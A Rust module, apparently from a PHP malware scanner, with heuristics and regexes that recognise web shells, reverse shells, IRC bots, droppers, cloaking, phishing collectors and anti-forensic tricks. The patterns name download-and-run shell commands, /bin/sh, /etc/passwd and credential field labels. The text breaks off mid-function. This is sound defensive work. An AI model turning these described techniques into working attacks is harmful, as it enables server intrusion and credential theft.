//! Malicious files whose harm is plain code, not hidden code run through `eval`: what real
//! attackers leave besides backdoors (`taint` finds those). Each family is recognised by its
//! idea, not by an author's names or strings:
//! - anti-forensics: files backdated with `touch()` to an old time, scripts that delete
//!   themselves;
//! - remote control: reverse and bind shells (a socket and a shell), IRC bots and UDP flooders;
//! - search-engine cloaking: the visitor's browser name checked for search engines, then
//!   content fetched from another site;
//! - injected JavaScript: obfuscated scripts or scripts from throw-away domains;
//! - droppers: shell commands that download and start a program, PHP code holding request
//!   input written to disk;
//! - web-shell consoles: server reconnaissance together with a file manager driven by the
//!   request.
//!
//! Pure functions over the tokens `php::tokenize` made for `taint`, plus a few byte regexes
//! over the text; the work is linear in the tokens. `may_match` is this module's own
//! prefilter: a file without any of its words is not tokenized for it.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::detect::{Danger, Why};
use super::php::{Tok, Token};

/// A family recognised in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shape {
    pub why: Why,
    pub danger: Danger,
    /// Byte offset of the telling place.
    pub at: usize,
}

/// Options of one file's analysis.
#[derive(Debug, Clone, Copy, Default)]
pub struct Options {
    /// A small script (a few hundred tokens): droppers and cleaners are a few lines, so a
    /// weak sign counts more.
    pub small: bool,
}

/// Every word one of the families needs: a file without any of them gives no shape.
static MAY_MATCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)/home|\b(?:touch|unlink|fsockopen|pfsockopen|socket_create|stream_socket_client|",
        r"stream_socket_server|socket_connect|socket_bind|HTTP_USER_AGENT|HTTP_REFERER|wget|curl|php_uname|",
        r"posix_getpwuid|mail|ini_restore|symlink|",
        r"fwrite|fputs|file_put_contents)\b|<script|<input|<textarea",
    ))
    .expect("pattern compiles")
});

/// Whether the file may hold one of the families (cheap, before tokenizing).
pub fn may_match(text: &[u8]) -> bool {
    MAY_MATCH.is_match(text)
}

/// Functions whose calls the families look at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum F {
    Touch,
    Unlink,
    Socket,
    Shell,
    Fetch,
    CurlExec,
    Write,
    Loop,
    Recon,
    DirList,
    FileChange,
    Upload,
    FileRead,
    /// `set_time_limit`, `ignore_user_abort`: keeps running after the visitor left.
    RunsLong,
    SocketSend,
    /// Connects or binds an existing socket to an address.
    SocketAddr,
    Mail,
    Getenv,
    Header,
}

const IRC_MESSAGE: u8 = 1;
const IRC_NICK: u8 = 2;
const IRC_JOIN: u8 = 4;

/// What one name is, or nothing (lowercased on a stack buffer: no allocation per token).
fn classify(name: &[u8]) -> Option<F> {
    let mut buf = [0u8; 24];
    if name.len() > buf.len() {
        return None;
    }
    let low = &mut buf[..name.len()];
    low.copy_from_slice(name);
    low.make_ascii_lowercase();
    Some(match &*low {
        b"touch" => F::Touch,
        b"unlink" => F::Unlink,
        b"fsockopen" | b"pfsockopen" | b"socket_create" | b"stream_socket_client" | b"stream_socket_server" => {
            F::Socket
        }
        b"system" | b"exec" | b"shell_exec" | b"passthru" | b"popen" | b"proc_open" | b"pcntl_exec" => F::Shell,
        b"file_get_contents" | b"fopen" | b"readfile" | b"file" | b"fsockopen_get" => F::Fetch,
        b"curl_exec" => F::CurlExec,
        b"fwrite" | b"fputs" | b"file_put_contents" => F::Write,
        b"socket_write" | b"socket_send" | b"socket_sendto" => F::SocketSend,
        b"socket_connect" | b"socket_bind" => F::SocketAddr,
        b"mail" => F::Mail,
        b"getenv" => F::Getenv,
        b"header" => F::Header,
        b"for" | b"foreach" | b"while" | b"do" => F::Loop,
        b"php_uname" | b"posix_getpwuid" | b"posix_getgrgid" | b"posix_geteuid" | b"posix_getuid"
        | b"posix_getegid" | b"get_current_user" | b"getmyuid" | b"getmygid" | b"disk_free_space"
        | b"disk_total_space" | b"diskfreespace" | b"fileowner" | b"fileperms" => F::Recon,
        b"opendir" | b"scandir" | b"readdir" | b"glob" | b"dir" => F::DirList,
        b"rmdir" | b"rename" | b"chmod" | b"mkdir" | b"copy" => F::FileChange,
        b"move_uploaded_file" => F::Upload,
        b"highlight_file" | b"show_source" | b"fread" => F::FileRead,
        b"set_time_limit" | b"ignore_user_abort" => F::RunsLong,
        _ => return None,
    })
}

fn ident<'a>(t: &Token<'a>) -> Option<&'a [u8]> {
    match t.tok {
        Tok::Ident(n) => Some(n),
        _ => None,
    }
}

fn is_op(t: Option<&Token<'_>>, op: &[u8]) -> bool {
    matches!(t, Some(Token { tok: Tok::Op(o), .. }) if *o == op)
}

fn str_value<'t>(t: &'t Token<'_>) -> Option<&'t [u8]> {
    match &t.tok {
        Tok::Str { value, .. } | Tok::Backtick { value, .. } => Some(value),
        _ => None,
    }
}

/// The index of the `)` closing the `(` at `open`, bounded by the file's tokens.
fn close_of(t: &[Token<'_>], open: usize) -> usize {
    let mut depth = 0usize;
    for (i, tok) in t.iter().enumerate().skip(open) {
        if let Tok::Op(o) = tok.tok {
            match o {
                b"(" | b"[" | b"{" => depth += 1,
                b")" | b"]" | b"}" => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return i;
                    }
                }
                b";" => return i,
                _ => {}
            }
        }
        if matches!(tok.tok, Tok::Close) {
            return i;
        }
    }
    t.len()
}

/// The tokens of each argument of the call whose `(` is at `open`.
fn args<'s, 'a>(t: &'s [Token<'a>], open: usize) -> Vec<&'s [Token<'a>]> {
    let end = close_of(t, open);
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut start = open + 1;
    for i in open + 1..end.min(t.len()) {
        if let Tok::Op(o) = t[i].tok {
            match o {
                b"(" | b"[" | b"{" => depth += 1,
                b")" | b"]" | b"}" => depth = depth.saturating_sub(1),
                b"," if depth == 0 => {
                    out.push(&t[start..i]);
                    start = i + 1;
                }
                _ => {}
            }
        }
    }
    if start < end.min(t.len()) {
        out.push(&t[start..end.min(t.len())]);
    }
    out
}

/// A day in seconds: backdating by less is how tests age a cache file.
const DAY: u64 = 86_400;

/// The value of a constant product such as `60*60*24*30`, if the tokens are only that.
fn const_product(t: &[Token<'_>]) -> Option<u64> {
    let mut v: u64 = 1;
    let mut any = false;
    for tok in t {
        match tok.tok {
            Tok::Num(n) => {
                let n: u64 = std::str::from_utf8(n).ok()?.parse().ok()?;
                v = v.saturating_mul(n);
                any = true;
            }
            Tok::Op(b"*" | b"(" | b")") => {}
            _ => return None,
        }
    }
    any.then_some(v)
}

/// A time argument that sets a file's time into the past on purpose: `time() - <days>`, a
/// fixed date (`strtotime('2015-…')`, `mktime(…)` of numbers, a literal timestamp) or
/// another file's time (`filemtime(...)`, made to match its neighbours).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum PastTime {
    DaysAgo,
    FixedDate,
    AnotherFile,
}

fn past_time(arg: &[Token<'_>]) -> Option<PastTime> {
    let names: Vec<Vec<u8>> = arg.iter().filter_map(ident).map(|n| n.to_ascii_lowercase()).collect();
    if let Some(i) = arg.iter().position(|t| ident(t).is_some_and(|n| n.eq_ignore_ascii_case(b"time"))) {
        if is_op(arg.get(i + 1), b"(") && is_op(arg.get(i + 2), b")") && is_op(arg.get(i + 3), b"-") {
            let rest = &arg[i + 4..];
            if const_product(rest).is_some_and(|s| s >= DAY) {
                return Some(PastTime::DaysAgo);
            }
        }
        return None;
    }
    if names.iter().any(|n| n == b"filemtime" || n == b"filectime") {
        return Some(PastTime::AnotherFile);
    }
    let only_literals = arg.iter().all(|t| matches!(t.tok, Tok::Num(_) | Tok::Str { .. } | Tok::Op(_) | Tok::Ident(_)));
    let fixed_fn = names.iter().any(|n| n == b"strtotime" || n == b"mktime");
    let no_vars = !arg.iter().any(|t| matches!(t.tok, Tok::Var(_)));
    if fixed_fn && only_literals && no_vars {
        return Some(PastTime::FixedDate);
    }
    if let [Token { tok: Tok::Num(n), .. }] = arg
        && n.len() >= 9
        && n.iter().all(u8::is_ascii_digit)
    {
        return Some(PastTime::FixedDate);
    }
    None
}

/// `unlink(__FILE__)`, `unlink($_SERVER['SCRIPT_FILENAME'])`: the running script deletes itself.
fn is_own_file(arg: &[Token<'_>]) -> bool {
    let arg: Vec<&Token<'_>> = arg.iter().filter(|t| !matches!(t.tok, Tok::Op(b"@"))).collect();
    match arg.as_slice() {
        [t] => ident(t).is_some_and(|n| n == b"__FILE__"),
        [v, o, s, c] => {
            matches!(v.tok, Tok::Var(b"_SERVER"))
                && is_op(Some(o), b"[")
                && str_value(s).is_some_and(|s| s == b"SCRIPT_FILENAME")
                && is_op(Some(c), b"]")
        }
        _ => false,
    }
}

/// Words that name search engines' crawlers (a cloaker shows them other content).
static CRAWLER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)google|bing|yahoo|yandex|baidu|msnbot|slurp|spider|crawl|\bbot\b").expect("pattern compiles")
});

/// A literal web address.
/// A literal web address, also base64-encoded (`aHR0cDovL` is `http://`).
static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)^\s*https?://|^aHR0cDovL|^aHR0cHM6Ly").expect("pattern compiles"));

/// A page sending the browser elsewhere from script or markup.
static REDIRECT_TEXT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)\b(?:window\.|document\.)?location(?:\.href)?\s*=|location\.replace\(|http-equiv=["']?refresh"#)
        .expect("pattern compiles")
});

/// A shell command that downloads something and starts it (or makes it executable).
static DOWNLOAD_AND_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)\b(?:wget|curl|fetch|lwp-download|lynx\s+-source|GET)\s[^\n;|]{0,200}(?:https?|ftp)://",
        r"[\s\S]{0,400}?(?:chmod\s+(?:\+x|[0-7]{3,4})|\b(?:perl|python[23]?|php|sh|bash|nohup)\s+[^\s|;&]|\./[a-z0-9_.-])",
    ))
    .expect("pattern compiles")
});

/// A shell started for a remote user: the payload of reverse and bind shells.
static SHELL_BINARY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)/bin/(?:ba|z|c|k|tc)?sh\b|\bcmd(?:\.exe)?\b").expect("pattern compiles"));

/// IRC commands (bots take orders in a channel): a message, or a nickname and a channel
/// sent at the start of a line.
static IRC: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u)\b(PRIVMSG)\b|(?:^|\n)(NICK|JOIN) ").expect("pattern compiles"));

/// Hidden JavaScript in a `<script>` block: obfuscator names, character codes, runs of
/// hex escapes, a packer. Ordinary scripts printed by themes have none of these.
static SCRIPT_OPEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)<script(?:\s[^<>]{0,200})?>").expect("pattern compiles"));
static OBFUSCATED_JS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)\b_0x[0-9a-f]{4,}\b|String\.fromCharCode\(\s*\d+\s*,\s*\d+\s*,\s*\d+|",
        r"(?:\\x[0-9a-f]{2}){8}|(?:\\u00[0-9a-f]{2}){8}|eval\(function\(p,a,c,k,e",
    ))
    .expect("pattern compiles")
});
/// The longest script body looked into.
const SCRIPT_WINDOW: usize = 20_000;

/// The first `<script>` block whose body (up to the next `<`) is obfuscated.
fn obfuscated_script(text: &[u8]) -> Option<usize> {
    for open in SCRIPT_OPEN.find_iter(text) {
        let body = &text[open.end()..text.len().min(open.end() + SCRIPT_WINDOW)];
        let body = &body[..memchr::memchr(b'<', body).unwrap_or(body.len())];
        if OBFUSCATED_JS.is_match(body) {
            return Some(open.start());
        }
    }
    None
}

/// A script loaded from a throw-away domain (free or cheap top-level domains used by
/// injection campaigns).
static THROWAWAY_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i-u)<script[^>]{0,200}\bsrc\s*=\s*["']?(?:https?:)?//[a-z0-9.-]+\.(?:ga|tk|ml|cf|gq|xyz|top|pw|icu|buzz|"#,
        r#"club|online|site|space|website|fun|monster|rest|cyou)(?:[/:"'\s>?])"#,
    ))
    .expect("pattern compiles")
});

/// A box for many lines (a mass mailer's list of addresses).
static TEXTAREA: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i-u)<textarea\b").expect("pattern compiles"));

/// A form for the visitor (web-shell consoles are pages to click in).
static FORM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)<(?:form|input|textarea)\b").expect("pattern compiles"));

/// PHP's protections (the first three) and the file listing the server's accounts: what a
/// web shell reads out first.
const RECON_SETTINGS: [&[u8]; 4] = [b"safe_mode", b"disable_functions", b"open_basedir", b"/etc/passwd"];

/// Another account's site files (`'/home/' . $user . '/public_html/…'`): how config grabbers
/// collect every site's database password.
static OTHER_SITES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i-u)(?:/home\d*/["']\s*\.\s*\$[a-z_0-9]+\s*\.\s*["']|/home\d*/\$[a-z_0-9]+|/home\d*/\{\$[a-z_0-9]+\})"#,
        r#"/(?:public_html|www|htdocs)/"#,
    ))
    .expect("pattern compiles")
});

/// The server's root, homes or accounts list linked into the site.
static SYSTEM_LINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)\bsymlink\s*\(\s*["']/(?:["']|home\d*/?["']|etc/passwd|var/www/?["'])"#)
        .expect("pattern compiles")
});

/// Where a file sits on the server: what a planted script mails home so the attacker finds it.
const LOCATION_KEYS: [&[u8]; 4] = [b"SCRIPT_FILENAME", b"DOCUMENT_ROOT", b"PATH_TRANSLATED", b"SERVER_ADDR"];

/// Everything a file shows of the families, one pass over the tokens.
#[derive(Default)]
struct Facts {
    /// First call of each function family.
    first: Vec<(F, usize)>,
    backdated: Option<(PastTime, usize)>,
    self_delete: Option<usize>,
    udp_socket: Option<usize>,
    user_agent: Option<usize>,
    crawler_words: bool,
    url_literal: bool,
    /// `header('Location: …')` or a script or meta redirect in a literal.
    redirect: bool,
    request_input: bool,
    shell_literal: bool,
    /// IRC commands seen (`IRC_*` bits).
    irc: u8,
    /// A connection opened to (or a port opened on) an address the visitor chose.
    socket_from_input: Option<usize>,
    /// Form fields with credentials pasted after a label (`"Password: " . $_POST['pass']`).
    credential_lines: u8,
    /// One of them is a password, a card or another secret (not only a name).
    secret_line: Option<usize>,
    /// A literal that holds PHP code reading the request and running it or writing files.
    php_dropper_literal: Option<usize>,
    recon_literals: u8,
    /// A protection setting read out and printed (`echo ini_get('safe_mode')`).
    recon_shown: bool,
    /// `/etc/passwd` named in a literal.
    recon_literal_passwd: bool,
    /// `mail()` to an address from the request.
    mail_to_input: Option<usize>,
    /// Which of `LOCATION_KEYS` are read (bits).
    location_keys: u8,
    /// `ini_restore('safe_mode')`: undoes the host's hardening for this script.
    protection_restored: Option<usize>,
}

impl Facts {
    fn at(&self, f: F) -> Option<usize> {
        self.first.iter().find(|(g, _)| *g == f).map(|(_, at)| *at)
    }
    fn has(&self, f: F) -> bool {
        self.at(f).is_some()
    }
}

fn facts(t: &[Token<'_>]) -> Facts {
    let mut f = Facts::default();
    let inputs = &input_vars(t);
    let mut recon_seen = [false; 4];
    for (i, tok) in t.iter().enumerate() {
        match &tok.tok {
            Tok::Ident(name) => {
                let Some(kind) = classify(name) else { continue };
                let called = is_op(t.get(i + 1), b"(");
                let method = i > 0 && (is_op(t.get(i - 1), b"->") || is_op(t.get(i - 1), b"::"));
                let defined = i > 0 && ident(&t[i - 1]).is_some_and(|p| p.eq_ignore_ascii_case(b"function"));
                if !called || method || defined {
                    continue;
                }
                if !f.first.iter().any(|(g, _)| *g == kind) {
                    f.first.push((kind, tok.at));
                }
                let a = || args(t, i + 1);
                match kind {
                    F::Touch => {
                        if let Some(p) = a().get(1).and_then(|x| past_time(x)) {
                            let stronger = f.backdated.is_none_or(|(q, _)| p == PastTime::DaysAgo && q != p);
                            if stronger {
                                f.backdated = Some((p, tok.at));
                            }
                        }
                    }
                    F::Unlink if f.self_delete.is_none() && a().first().is_some_and(|x| is_own_file(x)) => {
                        f.self_delete = Some(tok.at);
                    }
                    F::Socket | F::SocketAddr
                        if f.socket_from_input.is_none() && a().iter().take(2).any(|x| reads_input(x, inputs)) =>
                    {
                        f.socket_from_input = Some(tok.at);
                    }
                    F::Header if !f.redirect => {
                        let first = a().first().and_then(|x| x.first()).and_then(str_value).map(<[u8]>::to_vec);
                        f.redirect = first.is_some_and(|v| v.len() >= 9 && v[..9].eq_ignore_ascii_case(b"location:"));
                    }
                    F::Mail if f.mail_to_input.is_none() && a().first().is_some_and(|x| reads_input(x, inputs)) => {
                        f.mail_to_input = Some(tok.at);
                    }
                    F::Getenv if f.user_agent.is_none() => {
                        let key = a().first().and_then(|x| x.first()).and_then(str_value).map(<[u8]>::to_vec);
                        if key.is_some_and(|k| k == b"HTTP_USER_AGENT" || k == b"HTTP_REFERER") {
                            f.user_agent = Some(tok.at);
                        }
                    }
                    _ => {}
                }
                match kind {
                    F::Socket if f.udp_socket.is_none() => {
                        let udp = a()
                            .first()
                            .and_then(|x| x.first())
                            .and_then(str_value)
                            .is_some_and(|s| s.len() >= 6 && s[..6].eq_ignore_ascii_case(b"udp://"));
                        if udp {
                            f.udp_socket = Some(tok.at);
                        }
                    }
                    _ => {}
                }
            }
            Tok::Var(v) => {
                if is_request(v) {
                    f.request_input = true;
                }
                if *v == b"_SERVER" && is_op(t.get(i + 1), b"[") {
                    let key = t.get(i + 2).and_then(|k| str_value(k).or_else(|| ident(k)));
                    if let Some(k) = key.and_then(|k| LOCATION_KEYS.iter().position(|l| *l == k)) {
                        f.location_keys |= 1 << k;
                    }
                    if key.is_some_and(|k| k == b"HTTP_USER_AGENT" || k == b"HTTP_REFERER") && f.user_agent.is_none() {
                        f.user_agent = Some(tok.at);
                    }
                }
            }
            Tok::Str { value, vars, .. } => {
                literal_facts(&mut f, value, &mut recon_seen);
                if vars.contains(&&b"_SERVER"[..]) && value.len() <= 4096 {
                    // `"$_SERVER[DOCUMENT_ROOT]"`: the key stays in the text.
                    for (k, key) in LOCATION_KEYS.iter().enumerate() {
                        if memchr::memmem::find(value, key).is_some() {
                            f.location_keys |= 1 << k;
                        }
                    }
                }
                if i >= 2 && !f.recon_shown && RECON_SETTINGS.contains(&value.as_slice()) {
                    let getter = ident(&t[i - 2])
                        .is_some_and(|n| n.eq_ignore_ascii_case(b"ini_get") || n.eq_ignore_ascii_case(b"get_cfg_var"));
                    f.recon_shown = getter && is_op(t.get(i - 1), b"(") && is_shown(t, i - 2);
                }
                if i >= 2 && f.protection_restored.is_none() && RECON_SETTINGS[..3].contains(&value.as_slice()) {
                    let restore = ident(&t[i - 2]).is_some_and(|n| n.eq_ignore_ascii_case(b"ini_restore"));
                    if restore && is_op(t.get(i - 1), b"(") {
                        f.protection_restored = Some(t[i - 2].at);
                    }
                }
                if let Some((lines, secret)) = credential_line(t, i, value, vars) {
                    f.credential_lines = f.credential_lines.saturating_add(lines);
                    if secret && f.secret_line.is_none() {
                        f.secret_line = Some(tok.at);
                    }
                }
                if vars.iter().any(|v| is_request(v)) {
                    f.request_input = true;
                }
                if f.php_dropper_literal.is_none() && holds_php_reading_request(value, vars) {
                    f.php_dropper_literal = Some(tok.at);
                }
            }
            Tok::Backtick { value, .. } => literal_facts(&mut f, value, &mut recon_seen),
            _ => {}
        }
    }
    f.recon_literals = recon_seen.iter().filter(|s| **s).count() as u8;
    f.recon_literal_passwd = recon_seen[3];
    f
}

/// Every word one of the literal tests below needs: most literals have none, so they cost
/// one scan.
static ANY_LITERAL_WORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)google|bing|yahoo|yandex|baidu|msnbot|slurp|spider|crawl|bot|https?://|aHR0c|location|refresh|",
        r"/bin/|cmd|PRIVMSG|NICK|JOIN|safe_mode|disable_functions|open_basedir|/etc/passwd",
    ))
    .expect("pattern compiles")
});

fn literal_facts(f: &mut Facts, value: &[u8], recon_seen: &mut [bool; 4]) {
    if value.len() > 4096 || !ANY_LITERAL_WORD.is_match(value) {
        return;
    }
    if !f.crawler_words && CRAWLER.is_match(value) {
        f.crawler_words = true;
    }
    if !f.url_literal && URL.is_match(value) {
        f.url_literal = true;
    }
    if !f.redirect && REDIRECT_TEXT.is_match(value) {
        f.redirect = true;
    }
    if !f.shell_literal && SHELL_BINARY.is_match(value) {
        f.shell_literal = true;
    }
    for c in IRC.captures_iter(value).take(4) {
        f.irc |= match c.get(1).or_else(|| c.get(2)).map(|m| m.as_bytes()) {
            Some(b"PRIVMSG") => IRC_MESSAGE,
            Some(b"NICK") => IRC_NICK,
            _ => IRC_JOIN,
        };
    }
    let low = |w: &[u8]| value.len() >= w.len() && memchr::memmem::find(value, w).is_some();
    for (k, w) in RECON_SETTINGS.iter().enumerate() {
        if !recon_seen[k] && low(w) {
            recon_seen[k] = true;
        }
    }
}

/// A literal holding PHP code that reads the request and runs it or saves files: what a
/// dropper writes to disk.
fn holds_php_reading_request(value: &[u8], vars: &[&[u8]]) -> bool {
    static INPUT: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?-u)\$_(?:GET|POST|REQUEST|COOKIE|FILES)\b").expect("pattern compiles"));
    static PHP_SINK: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i-u)\b(?:eval|assert|system|passthru|shell_exec|exec|move_uploaded_file|file_put_contents|fwrite|copy)\s*\(")
            .expect("pattern compiles")
    });
    if value.len() > 64 * 1024 {
        return false;
    }
    let Some(open) = memchr::memmem::find(value, b"<?") else { return false };
    let code = &value[open..];
    let php = code.get(2..5).is_some_and(|w| w.eq_ignore_ascii_case(b"php")) || code.get(2) == Some(&b'=');
    let input_var = vars.iter().any(|v| is_request(v));
    php && (INPUT.is_match(code) || input_var) && PHP_SINK.is_match(code)
}

/// Request input, with PHP 4's long names that old web shells still use.
fn is_request(v: &[u8]) -> bool {
    matches!(
        v,
        b"_GET"
            | b"_POST"
            | b"_REQUEST"
            | b"_COOKIE"
            | b"_FILES"
            | b"HTTP_GET_VARS"
            | b"HTTP_POST_VARS"
            | b"HTTP_COOKIE_VARS"
            | b"HTTP_POST_FILES"
    )
}

/// Variables that hold request input (`$host = $_GET['h'];`, `$p = trim(@$_POST['p']);`,
/// `$list = explode("\n", $to);`, `foreach ($list as $one)`): a cheap, flow-insensitive view
/// for the families below, two rounds deep (`taint` follows data for real).
fn input_vars<'a>(t: &[Token<'a>]) -> Vec<&'a [u8]> {
    let mut out: Vec<&'a [u8]> = Vec::new();
    for _round in 0..2 {
        for (i, tok) in t.iter().enumerate() {
            if out.len() >= 64 {
                return out;
            }
            match tok.tok {
                Tok::Var(v) if is_op(t.get(i + 1), b"=") && !(i > 0 && is_op(t.get(i - 1), b"->")) => {
                    let rhs: Vec<&Token<'a>> = t[i + 2..]
                        .iter()
                        .take(32)
                        .take_while(|x| !is_op(Some(x), b";") && !matches!(x.tok, Tok::Close))
                        .collect();
                    if rhs.iter().any(|x| holds_input(x, &out)) && !out.contains(&v) {
                        out.push(v);
                    }
                }
                Tok::Ident(k) if k.eq_ignore_ascii_case(b"foreach") && is_op(t.get(i + 1), b"(") => {
                    let head = &t[i + 2..close_of(t, i + 1).min(t.len())];
                    let Some(as_at) = head.iter().position(|x| ident(x).is_some_and(|n| n.eq_ignore_ascii_case(b"as")))
                    else {
                        continue;
                    };
                    if head[..as_at].iter().any(|x| holds_input(x, &out)) {
                        for x in &head[as_at + 1..] {
                            if let Tok::Var(v) = x.tok
                                && !out.contains(&v)
                            {
                                out.push(v);
                            }
                        }
                    }
                }
                _ => {}
            }
        }
    }
    out
}

fn holds_input(x: &Token<'_>, inputs: &[&[u8]]) -> bool {
    match &x.tok {
        Tok::Var(r) => is_request(r) || inputs.contains(r),
        Tok::Str { vars, .. } => vars.iter().any(|r| is_request(r) || inputs.contains(r)),
        _ => false,
    }
}

/// Whether an argument reads request input, directly or through one of `inputs`.
fn reads_input(arg: &[Token<'_>], inputs: &[&[u8]]) -> bool {
    let named = |v: &[u8]| is_request(v) || inputs.contains(&v);
    arg.iter().any(|x| match &x.tok {
        Tok::Var(v) => named(v),
        Tok::Str { vars, .. } => vars.iter().any(|v| named(v)),
        _ => false,
    })
}

/// A label naming a credential at the end of a literal (`"Password : "`, `"CVV="`).
static CREDENTIAL_LABEL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)(?:pass|pwd|user|login|e-?mail|card|cc|cvv|cvc|ssn|pin|exp|otp|dob|account|id)[a-z0-9 ._#-]{0,20}[:=>|-]\s*$")
        .expect("pattern compiles")
});
/// A form field holding a credential.
static CREDENTIAL_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)pass|pwd|user|login|e-?mail|card|^cc|cvv|cvc|ssn|pin|exp|otp|dob|account")
        .expect("pattern compiles")
});
/// A field holding a secret (not a name or an address).
static SECRET_KEY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)pass|pwd|card|^cc|cvv|cvc|ssn|pin|otp").expect("pattern compiles"));

/// `"Password: " . $_POST['pass']` or `"Password: $_POST[pass]"` at token `i`: a collector's
/// log line. How many such lines, and whether one field is a secret.
fn credential_line(t: &[Token<'_>], i: usize, value: &[u8], vars: &[&[u8]]) -> Option<(u8, bool)> {
    if value.len() > 200 {
        return None;
    }
    if vars.iter().any(|v| matches!(*v, b"_POST" | b"_GET" | b"_REQUEST")) {
        // Interpolated: labels each followed by a `[key]` in the same text.
        let (mut lines, mut secret, mut from) = (0u8, false, 0);
        while let Some(open) = memchr::memchr(b'[', &value[from..]).map(|o| o + from) {
            let Some(close) = memchr::memchr(b']', &value[open..]).map(|c| c + open) else { break };
            let key = value[open + 1..close].trim_ascii_matches_quotes();
            if CREDENTIAL_LABEL.is_match(&value[from..open]) && CREDENTIAL_KEY.is_match(key) {
                lines += 1;
                secret |= SECRET_KEY.is_match(key);
            }
            from = close + 1;
        }
        return (lines > 0).then_some((lines, secret));
    }
    if !CREDENTIAL_LABEL.is_match(value) || !is_op(t.get(i + 1), b".") {
        return None;
    }
    let Some(Token { tok: Tok::Var(v), .. }) = t.get(i + 2) else { return None };
    if !matches!(*v, b"_POST" | b"_GET" | b"_REQUEST") || !is_op(t.get(i + 3), b"[") {
        return None;
    }
    let key = t.get(i + 4).and_then(str_value)?;
    CREDENTIAL_KEY.is_match(key).then(|| (1, SECRET_KEY.is_match(key)))
}

trait TrimQuotes {
    fn trim_ascii_matches_quotes(&self) -> &[u8];
}

impl TrimQuotes for [u8] {
    fn trim_ascii_matches_quotes(&self) -> &[u8] {
        let mut s = self;
        while let [b'\'' | b'"', rest @ ..] = s {
            s = rest;
        }
        while let [rest @ .., b'\'' | b'"'] = s {
            s = rest;
        }
        s
    }
}

/// Every family found in one PHP file.
pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
    let f = facts(t);
    let mut out = Vec::new();
    let mut add = |why, danger, at| out.push(Shape { why, danger, at });

    // Anti-forensics.
    if let Some((p, at)) = f.backdated {
        let danger = match (p, o.small || f.self_delete.is_some()) {
            (PastTime::DaysAgo | PastTime::FixedDate, true) => Danger::High,
            (PastTime::DaysAgo | PastTime::FixedDate, false) | (PastTime::AnotherFile, true) => Danger::Medium,
            (PastTime::AnotherFile, false) => Danger::Low,
        };
        add(Why::BackdatesFiles, danger, at);
    }
    if let Some(at) = f.self_delete {
        add(Why::DeletesItself, if f.backdated.is_some() { Danger::High } else { Danger::Medium }, at);
    }

    // Remote control: a socket and a shell, an IRC bot, a UDP flood.
    if let Some(sock) = f.at(F::Socket) {
        if f.has(F::Shell) && f.shell_literal {
            add(Why::RemoteShell, Danger::Critical, sock);
        } else if (f.irc & IRC_MESSAGE != 0 || f.irc & (IRC_NICK | IRC_JOIN) == IRC_NICK | IRC_JOIN)
            && (f.has(F::Write) || f.has(F::SocketSend))
        {
            add(Why::NetworkBot, Danger::High, sock);
        }
    }
    if let Some(at) = f.udp_socket
        && f.has(F::Loop)
        && f.has(F::Write)
        && f.has(F::RunsLong)
    {
        add(Why::NetworkBot, Danger::High, at);
    }

    if let Some(at) = f.socket_from_input {
        add(Why::NetworkFromInput, if o.small { Danger::High } else { Danger::Medium }, at);
    }

    // A mass mailer: addresses from a list the visitor typed, mailed in a loop.
    if let Some(at) = f.mail_to_input
        && f.has(F::Loop)
        && TEXTAREA.is_match(text)
    {
        add(Why::MailFromInput, Danger::High, at);
    }

    // A beacon: the file's place on the server mailed to someone.
    if f.location_keys.count_ones() >= 2
        && let Some(at) = f.at(F::Mail)
    {
        add(Why::ReportsItsLocation, Danger::High, at);
    }

    // Phishing: form fields with passwords or cards, labelled, then mailed or saved.
    if let Some(at) = f.secret_line
        && f.credential_lines >= 2
        && (f.has(F::Mail) || f.has(F::Write) || f.has(F::CurlExec))
    {
        add(Why::CredentialCollector, Danger::High, at);
    }

    // Cloaking: search engines' crawlers (or visitors coming from them) told apart, then
    // content fetched from another site or a redirect to one.
    if let Some(ua) = f.user_agent {
        let fetch = f.has(F::CurlExec) || f.has(F::Fetch);
        if f.crawler_words && (fetch || f.redirect) && f.url_literal {
            add(Why::SearchEngineCloaking, Danger::High, ua);
        }
    }

    // Droppers.
    if let Some(at) = f.php_dropper_literal
        && f.has(F::Write)
    {
        add(Why::WritesCodeWithInput, Danger::High, at);
    }
    if (f.has(F::Shell) || t.iter().any(|x| matches!(x.tok, Tok::Backtick { .. })))
        && let Some(m) = DOWNLOAD_AND_RUN.find(text)
    {
        add(Why::DownloadsProgram, Danger::High, m.start());
    }

    // Web-shell consoles: server reconnaissance and a file manager driven by the request.
    let (calls, shown) = recon_calls(t);
    let shown = shown || f.recon_shown;
    let recon_kinds = calls + usize::from(f.recon_literals);
    let control = [F::DirList, F::FileChange, F::Upload, F::FileRead, F::Write, F::Unlink, F::Shell, F::Shell]
        .iter()
